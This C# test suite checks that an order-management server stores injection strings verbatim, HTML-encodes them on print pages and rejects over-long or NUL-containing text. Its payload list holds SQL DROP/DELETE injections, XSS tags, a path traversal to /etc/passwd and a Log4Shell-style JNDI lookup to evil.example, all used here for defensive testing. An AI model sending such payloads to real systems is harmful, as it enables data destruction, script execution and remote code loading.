using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Microsoft.EntityFrameworkCore;
using Orchestrator.Domain.Orders;
using Orchestrator.Server.Tests.Infrastructure;
using static Orchestrator.Server.Tests.Infrastructure.RuleJson;

namespace Orchestrator.Server.Tests.BadInput;

/// <summary>
/// SQL, script and template injection in every text field is stored and returned as the same text, never run; print pages
/// encode it; over-length text is a 400 naming the field (never truncated or left to the database to refuse).
/// </summary>
public abstract class InjectionTests(ServerFixture server) : BadInputTestBase(server)
{
    public static TheoryData<string> Payloads { get; } =
    [
        "'; DROP TABLE SalesOrders;--",
        "\" OR 1=1; --",
        "Robert'); DELETE FROM Shops WHERE '1'='1",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "%s%n%x%d",
        "../../etc/passwd",
        "\\'\\\"\\\\",
    ];

    // The intake text fields and how long each may be (the validator's limit, which is never above the column's).
    private static readonly (string Path, int Max)[] IntakeText =
    [
        ("buyerNick", 128), ("buyerMessage", 1000), ("sellerMemo", 1000),
        ("receiver.name", 128), ("receiver.mobile", 32), ("receiver.province", 64), ("receiver.city", 64),
        ("receiver.district", 64), ("receiver.address", 512), ("receiver.zip", 16),
        ("lines[0].title", 512), ("lines[0].merchantCode", 64), ("lines[0].platformLineId", 64), ("lines[0].platformSkuId", 64),
    ];

    [SkippableTheory]
    [MemberData(nameof(Payloads))]
    public async Task Injection_in_every_intake_text_field_is_stored_and_returned_verbatim(string payload)
    {
        var shop = await CreateShopAsync();
        var order = PaidOrder(Unique("tid") + payload[..Math.Min(payload.Length, 40)], ("ANY", 1));
        foreach (var (path, max) in IntakeText.Where(f => payload.Length <= f.Max))
        {
            Set(order, path, payload);
        }

        var before = await CountRowsAsync();
        var pushed = await PushAsync(shop.Id, order, HttpStatusCode.Created);
        var read = await ReadJsonAsync($"/api/orders/{pushed.Order.Id}");

        foreach (var (path, _) in IntakeText.Where(f => payload.Length <= f.Max))
        {
            Assert.Equal(payload, Get(read, path));
        }

        Assert.Equal(order["platformOrderId"]!.GetValue<string>(), read["platformOrderId"]!.GetValue<string>());
        var after = await CountRowsAsync();
        Assert.Equal(before.Orders + 1, after.Orders);
        Assert.Equal(before.Shops, after.Shops);
        Assert.Equal(payload, await Server.WithDbAsync(db => db.SalesOrders.Where(o => o.Id == pushed.Order.Id).Select(o => o.BuyerMessage).SingleAsync()));
        Assert.Equal(1, (await ReadJsonAsync($"/api/orders?platformOrderId={Uri.EscapeDataString(order["platformOrderId"]!.GetValue<string>())}"))["total"]!.GetValue<int>());
    }

    [SkippableTheory]
    [MemberData(nameof(Payloads))]
    public async Task Injection_in_shop_goods_rule_and_workflow_names_is_stored_and_returned_verbatim(string payload)
    {
        var shop = await PostCreatedAsync("/api/shops", new JsonObject { ["code"] = Unique("S"), ["name"] = payload, ["platform"] = "taobao", ["accountingPartner"] = payload });
        var goods = await PostCreatedAsync("/api/goods", new JsonObject
        {
            ["merchantCode"] = Unique("G"),
            ["name"] = payload,
            ["spec"] = payload,
            ["weightKg"] = 0.1,
            ["price"] = 1,
            ["isEnabled"] = true,
        });
        await AddRuleAsync(shop, Rule("inj", "buyerMessage", "contains", payload, name: payload, reason: payload), 0);
        var definitionId = Unique("inj").ToLowerInvariant();
        var imported = await Client.PostAsJsonAsync("/api/workflow-definitions:import", TestWorkflows.Valid(definitionId, payload), ServerFixture.Json);
        Assert.Equal(HttpStatusCode.OK, imported.StatusCode);

        var order = PaidOrder(Unique("tid"), ((await ReadJsonAsync($"/api/goods/{goods}"))["merchantCode"]!.GetValue<string>(), 1));
        order["buyerMessage"] = "前缀" + payload + "后缀";
        var dryRun = await DryRunAsync(shop, order);

        Assert.Equal(payload, (await ReadJsonAsync($"/api/shops/{shop}"))["name"]!.GetValue<string>());
        Assert.Equal(payload, (await ReadJsonAsync($"/api/shops/{shop}"))["accountingPartner"]!.GetValue<string>());
        Assert.Equal(payload, (await ReadJsonAsync($"/api/goods/{goods}"))["name"]!.GetValue<string>());
        Assert.Equal(payload, (await ReadJsonAsync($"/api/goods/{goods}"))["spec"]!.GetValue<string>());
        var rule = (await ReadJsonAsync($"/api/shops/{shop}/rules"))["rules"]![0]!;
        Assert.Equal(payload, rule["name"]!.GetValue<string>());
        Assert.Equal(payload, rule["when"]!["all"]![0]!["value"]!.GetValue<string>());
        Assert.Equal(payload, rule["action"]!["reason"]!.GetValue<string>());
        Assert.Equal(payload, (await ReadJsonAsync($"/api/workflow-definitions/{definitionId}"))["name"]!.GetValue<string>());
        Assert.Equal("Block", dryRun["decision"]!.GetValue<string>());
        Assert.Equal($"{payload}: {payload}", dryRun["reasons"]![0]!.GetValue<string>());
    }

    [SkippableFact]
    public async Task Text_one_past_the_column_length_is_a_400_naming_the_field_and_text_at_it_is_kept_whole()
    {
        var columns = await Server.WithDbAsync(db =>
        {
            var order = db.Model.FindEntityType(typeof(SalesOrder))!;
            var line = db.Model.FindEntityType(typeof(SalesOrderLine))!;
            return Task.FromResult(new Dictionary<string, int?>
            {
                ["platformOrderId"] = order.FindProperty(nameof(SalesOrder.PlatformOrderId))!.GetMaxLength(),
                ["buyerNick"] = order.FindProperty(nameof(SalesOrder.BuyerNick))!.GetMaxLength(),
                ["buyerMessage"] = order.FindProperty(nameof(SalesOrder.BuyerMessage))!.GetMaxLength(),
                ["sellerMemo"] = order.FindProperty(nameof(SalesOrder.SellerMemo))!.GetMaxLength(),
                ["receiver.address"] = order.FindProperty(nameof(SalesOrder.ReceiverAddress))!.GetMaxLength(),
                ["lines[0].title"] = line.FindProperty(nameof(SalesOrderLine.Title))!.GetMaxLength(),
                ["lines[0].merchantCode"] = line.FindProperty(nameof(SalesOrderLine.MerchantCode))!.GetMaxLength(),
            });
        });
        var shop = await CreateShopAsync();

        foreach (var (path, column) in columns)
        {
            var limit = Assert.IsType<int>(column);
            var tooLong = PaidOrder(Unique("tid"), ("ANY", 1));
            Set(tooLong, path, new string('长', limit + 1));
            var fits = PaidOrder(path == "platformOrderId" ? new string('P', limit) : Unique("tid"), ("ANY", 1));
            fits["lines"]![0]!["platformLineId"] = "1";
            Set(fits, path, path == "platformOrderId" ? new string('P', limit) : new string('长', limit));

            AssertNamesField(await ProblemAsync(await PostOrderAsync(shop.Id, tooLong), HttpStatusCode.BadRequest), path);
            var stored = await PushAsync(shop.Id, fits, HttpStatusCode.Created);
            Assert.Equal(limit, Get(await ReadJsonAsync($"/api/orders/{stored.Order.Id}"), path)!.Length);
        }

        Assert.Equal(columns.Count, await CountOrdersAsync(shop.Id));
    }

    [SkippableFact]
    public async Task Over_long_rule_ids_names_and_blacklist_reasons_are_refused_not_cut()
    {
        var shop = await CreateShopAsync();
        var longId = Rule(new string('r', 65), "buyerMessage", "contains", "x");
        var longName = Rule("ok", "buyerMessage", "contains", "x", name: new string('名', 201));
        var before = await CountRowsAsync();

        var id = await ProblemAsync(await PostRuleAsync(shop.Id, longId, 0), HttpStatusCode.BadRequest);
        var name = await ProblemAsync(await PostRuleAsync(shop.Id, longName, 0), HttpStatusCode.BadRequest);
        var reason = await ProblemAsync(
            await Client.PostAsJsonAsync("/api/platforms/1/blacklist", new JsonObject { ["buyerNick"] = Unique("nick"), ["reason"] = new string('因', 501) }, ServerFixture.Json),
            HttpStatusCode.BadRequest);
        var expandingNick = await ProblemAsync(
            await Client.PostAsJsonAsync("/api/platforms/1/blacklist", new JsonObject { ["buyerNick"] = new string('㍿', 100) }, ServerFixture.Json),
            HttpStatusCode.BadRequest);

        Assert.Contains(id["errors"]!.AsObject(), e => e.Key.EndsWith(".id", StringComparison.Ordinal));
        Assert.Contains(name["errors"]!.AsObject(), e => e.Key.EndsWith(".name", StringComparison.Ordinal));
        AssertNamesField(reason, "reason");
        AssertNamesField(expandingNick, "buyerNick");
        Assert.Equal(before, await CountRowsAsync());
        Assert.Empty((await Client.GetFromJsonAsync<JsonArray>("/api/platforms/1/blacklist", ServerFixture.Json))!);
    }

    [SkippableFact]
    public async Task A_nul_character_is_refused_naming_the_field_on_every_database()
    {
        var shop = await CreateShopAsync();
        var order = PaidOrder(Unique("tid"), ("ANY", 1));
        order["buyerMessage"] = "before\u0000after";
        var line = PaidOrder(Unique("tid"), ("ANY", 1));
        line["lines"]![0]!["title"] = "\u0000";
        var definition = TestWorkflows.Valid(Unique("nul").ToLowerInvariant(), "流程\u0000");
        var before = await CountRowsAsync();

        AssertNamesField(await ProblemAsync(await PostOrderAsync(shop.Id, order), HttpStatusCode.BadRequest), "buyerMessage");
        AssertNamesField(await ProblemAsync(await PostOrderAsync(shop.Id, line), HttpStatusCode.BadRequest), "lines[0].title");
        AssertNamesField(await ProblemAsync(await Client.PostAsJsonAsync("/api/workflow-definitions:import", definition, ServerFixture.Json), HttpStatusCode.BadRequest), "name");
        Assert.Equal(before, await CountRowsAsync());
    }

    [SkippableFact]
    public async Task Print_pages_encode_what_buyers_and_staff_typed()
    {
        var markup = new[] { "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>" };
        var code = Unique("TEA");
        var shop = await CreateReadyShopAsync(code);
        var goods = (await ReadJsonAsync($"/api/goods?merchantCode={code}"))["items"]![0]!;
        var edit = goods.DeepClone().AsObject();
        edit["name"] = markup[1];
        edit["spec"] = markup[2];
        Assert.Equal(HttpStatusCode.OK, (await Client.PutAsJsonAsync($"/api/goods/{goods["id"]}", edit, ServerFixture.Json)).StatusCode);
        var order = PaidOrder(Unique("TB"), (code, 1));
        order["receiver"]!["name"] = markup[0];
        order["receiver"]!["address"] = markup[1];
        order["receiver"]!["district"] = markup[2];
        order["buyerMessage"] = markup[0];
        order["sellerMemo"] = markup[2];
        var id = (await PushAsync(shop, order, HttpStatusCode.Created)).Order.Id;
        await WaitForAsync(id, bookmark: "PickConfirmed");
        var wave = await Client.PostAsJsonAsync($"/api/warehouses/{await WarehouseOfAsync(shop)}/pick-lists", new JsonObject { ["shopId"] = shop }, ServerFixture.Json);
        Assert.Equal(HttpStatusCode.Created, wave.StatusCode);
        var waveId = JsonNode.Parse(await wave.Content.ReadAsStringAsync())!["id"]!.GetValue<long>();

        var pickList = await Client.GetStringAsync($"/api/pick-lists/{waveId}/print");
        var labels = await Client.GetStringAsync($"/api/orders/{id}/waybill-labels");

        foreach (var html in new[] { pickList, labels })
        {
            foreach (var raw in markup)
            {
                Assert.DoesNotContain(raw, html, StringComparison.Ordinal);
            }

            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<svg/", html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("&lt;img src=x onerror=alert(1)&gt;", pickList, StringComparison.Ordinal);
        Assert.Contains("&lt;script&gt;alert(1)&lt;/script&gt;", labels, StringComparison.Ordinal);
    }

    private static string? Get(JsonNode node, string path) => Walk(node, path)?.GetValue<string>();

    private static void Set(JsonObject order, string path, string value)
    {
        var dot = path.LastIndexOf('.');
        var parent = dot < 0 ? order : Walk(order, path[..dot])!;
        parent[path[(dot + 1)..]] = value;
    }

    // "a", "a.b", "lines[0].b" in an order as the API shapes it.
    private static JsonNode? Walk(JsonNode node, string path)
    {
        JsonNode? current = node;
        foreach (var part in path.Split('.'))
        {
            var bracket = part.IndexOf('[');
            current = bracket < 0 ? current?[part] : current?[part[..bracket]]?[int.Parse(part[(bracket + 1)..^1], System.Globalization.CultureInfo.InvariantCulture)];
        }

        return current;
    }
}

public sealed class SqliteInjectionTests(LifecycleSqliteFixture server) : InjectionTests(server), IClassFixture<LifecycleSqliteFixture>;

public sealed class PostgreSqlInjectionTests(LifecyclePostgreSqlFixture server) : InjectionTests(server), IClassFixture<LifecyclePostgreSqlFixture>;
